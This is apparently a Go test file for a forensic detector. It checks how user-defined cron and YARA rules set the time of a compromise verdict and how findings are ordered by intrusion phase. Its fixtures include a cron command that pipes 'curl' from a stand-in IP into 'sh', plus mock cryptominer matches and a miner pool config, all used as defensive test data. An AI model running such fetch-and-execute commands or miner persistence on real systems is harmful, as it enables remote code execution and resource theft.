package detect

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"icecore/forensics/model"
)

// cronRule is a rule of a user that matches a cron job with the marker in its command.
func cronRule(title, level, marker string) string {
	return fmt.Sprintf("title: %s\nname: %s\nlevel: %s\ntags: [attack.execution, attack.t1059.004]\nlogsource: {product: linux, category: cron.job}\n"+
		"detection:\n  selection:\n    command|contains: '%s'\n  condition: selection\n", title, strings.ToLower(title), level, marker)
}

// withBuiltin adds the rules of a user to the built-in ones.
func withBuiltin(t *testing.T, own ...string) *Rules {
	t.Helper()
	r, err := Load(Options{})
	if err != nil {
		t.Fatal(err)
	}
	mine := load(t, own...)
	if len(mine.Problems) > 0 {
		t.Fatal(mine.Problems)
	}
	r.rules = append(r.rules, mine.rules...)
	return r
}

// TestSince: the time of the verdict names the finding it rests on; a rule of the user's
// does not move it, and every finding says where that matters.
func TestSince(t *testing.T) {
	job := func(command, path string, minute int, traits ...string) model.Record {
		r := model.Record{Kind: model.CronJob, Source: model.Source{Volume: "p1", Path: path, DiskOffset: -1}}
		r.Add("command", command)
		r.AddList("traits", traits)
		return at(r, "changed", minute)
	}
	fetch := func(path string, minute int) model.Record {
		return job("curl http://198.51.100.1/ | sh # "+path, path, minute, "fetch", "pipe_to_shell")
	}
	none := time.Time{}
	for _, tt := range []struct {
		name    string
		own     []string
		records []model.Record
		state   model.VerdictState
		since   time.Time
		rule    string // of the finding it rests on
		said    string // "rule: detail" of the findings that say something of the time
	}{
		{"built-in rules", nil, []model.Record{fetch("/a", 5), fetch("/b", 9)}, Compromised, noon.Add(5 * time.Minute), "act_pipe_to_shell", ""},
		{
			"an earlier match of an own rule",
			[]string{cronRule("Own", "critical", "backup")},
			[]model.Record{fetch("/a", 5), fetch("/b", 9), job("backup", "/c", -9000)},
			Compromised, noon.Add(5 * time.Minute), "act_pipe_to_shell", "own: verdict.own_rule_earlier",
		},
		{
			"a later match of an own rule",
			[]string{cronRule("Own", "critical", "backup")},
			[]model.Record{fetch("/a", 5), fetch("/b", 9), job("backup", "/c", 9000)},
			Compromised, noon.Add(5 * time.Minute), "act_pipe_to_shell", "",
		},
		{
			"an own rule of a low level",
			[]string{cronRule("Own", "low", "backup")},
			[]model.Record{fetch("/a", 5), fetch("/b", 9), job("backup", "/c", -9000)},
			Compromised, noon.Add(5 * time.Minute), "act_pipe_to_shell", "",
		},
		{
			"own rules alone",
			[]string{cronRule("Own", "critical", "backup")},
			[]model.Record{job("backup", "/c", 7), job("backup", "/d", 8)},
			Compromised, noon.Add(7 * time.Minute), "own", "own: verdict.own_rule",
		},
		{
			"an own rule names a record that a built-in rule matches, too",
			[]string{cronRule("Own", "critical", "curl")},
			[]model.Record{fetch("/a", 5), job("backup", "/c", 9)},
			Compromised, noon.Add(5 * time.Minute), "own", "",
		},
		{
			"an own rule of the same level comes second",
			[]string{cronRule("Own", "high", "curl")},
			[]model.Record{fetch("/a", 5), fetch("/b", 9)},
			Compromised, noon.Add(5 * time.Minute), "act_pipe_to_shell", "",
		},
		{
			"an own rule and a built-in one that is too weak",
			[]string{cronRule("Own", "critical", "/tmp/a")},
			[]model.Record{job("/tmp/a", "/a", 5, "temp_exec")},
			Compromised, noon.Add(5 * time.Minute), "own", "own: verdict.own_rule",
		},
		{
			"an own rule names what starts a known miner",
			[]string{cronRule("Own", "medium", "/opt/a")},
			[]model.Record{
				at(record(t, "yara.match rule=XMRig_Binary; level=critical; technique=T1496.001; file_type=elf; path=/opt/a"), "created", 9),
				at(record(t, "cron.job command=/opt/a; programs=/opt/a; path=/etc/cron.d/a"), "changed", 5),
			},
			Compromised, noon.Add(5 * time.Minute), "own", "",
		},
		{"no time", nil, []model.Record{{Kind: model.CronJob, Source: model.Source{Volume: "p1", Path: "/a"}}}, NoIndicators, none, "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := withBuiltin(t, tt.own...)
			recs := slices.Clone(tt.records)
			for i := range recs {
				recs[i].ID = fmt.Sprintf("R-%06d", i+1)
			}
			res, err := r.Run(t.Context(), &Input{Records: recs})
			if err != nil {
				t.Fatal(err)
			}
			v := res.Verdict
			rule, said := "", []string(nil)
			for _, f := range res.Findings {
				if f.ID == v.SinceFinding {
					rule = f.Rule
					if f.When != v.Since {
						t.Errorf("since %+v, its finding says %+v", v.Since, f.When)
					}
				}
				for _, m := range f.Details {
					if strings.HasPrefix(m.ID, "verdict.") {
						said = append(said, f.Rule+": "+m.ID)
					}
				}
			}
			if v.State != tt.state || !v.Since.Time.Equal(tt.since) || rule != tt.rule || strings.Join(said, "; ") != tt.said {
				t.Errorf("%s since %s (%s), %q; want %s since %s (%s), %q", v.State, v.Since.Time, rule, said, tt.state, tt.since, tt.rule, tt.said)
			}
		})
	}
}

// TestOwnYARA: a YARA rule of the user's does not move the time, either, unless one of
// icecore's matches the same file.
func TestOwnYARA(t *testing.T) {
	for _, tt := range []struct {
		name, also string
		want       int
	}{{"alone", "", 5}, {"with one of icecore's", "high", -9000}, {"with a weak one of icecore's", "low", 5}, {"with the name of a kernel thread", "notable", -9000}, {"with a configuration", "config", -9000}} {
		s := scene{records: []model.Record{
			at(record(t, "yara.match rule=Own; namespace=mine; level=critical; file_type=script; path=/opt/x"), "created", -9000),
			at(record(t, "yara.match rule=XMRig_Binary; level=critical; technique=T1496.001; file_type=elf; path=/opt/a"), "created", 5),
		}}
		s.records[0].Source.Inode, s.records[1].Source.Inode = 5, 6
		switch tt.also {
		case "":
		case "notable": // joined with the finding about the same file
			more := at(record(t, "file.notable what=kernel_thread_name; path=/opt/x"), "created", -9000)
			more.Source.Inode = 5
			s.records = append(s.records, more)
		case "config":
			more := at(record(t, "miner.config pool=203.0.113.77:3333; wallet=4A; path=/opt/x"), "created", -9000)
			more.Source.Inode = 5
			s.records = append(s.records, more)
		default:
			more := at(record(t, "yara.match rule=Dropper; level="+tt.also+"; file_type=script; path=/opt/x"), "created", -9000)
			more.Source.Inode = 5
			s.records = append(s.records, more)
		}
		if v := s.run(t).Verdict; !v.Since.Time.Equal(noon.Add(time.Duration(tt.want) * time.Minute)) {
			t.Errorf("%s: since %s", tt.name, v.Since.Time)
		}
	}
}

// TestStoryOrder: what is of the same moment stands in the order of an intrusion, and what
// has no time at the end.
func TestStoryOrder(t *testing.T) {
	c := &collection{}
	add := func(phase model.Phase, when model.When, level Level) {
		c.add(Finding{Finding: model.Finding{Level: level, Phase: phase, When: when, Message: model.Msg("rule.title", "title", string(phase))}})
	}
	same := model.When{Time: noon}
	for _, p := range []model.Phase{PhaseEvasion, PhaseMining, PhasePersistence, PhaseAccess, PhaseExecution} {
		add(p, same, Medium)
	}
	add(PhaseAccess, model.When{}, High)
	add(PhaseEvasion, model.When{Time: noon.Add(-time.Minute)}, Critical)
	add(PhaseEvasion, model.When{Time: noon.Add(-time.Hour)}, Low)
	var got []string
	for _, l := range c.story() {
		got = append(got, fmt.Sprint(l.Phase, " ", l.When.Time.Sub(noon)))
	}
	undated := fmt.Sprint(PhaseAccess, " ", time.Time{}.Sub(noon))
	want := []string{"evasion -1m0s", "initial-access 0s", "execution 0s", "mining 0s", "persistence 0s", "evasion 0s", undated}
	if !slices.Equal(got, want) {
		t.Errorf("%q\nwant %q", got, want)
	}
}
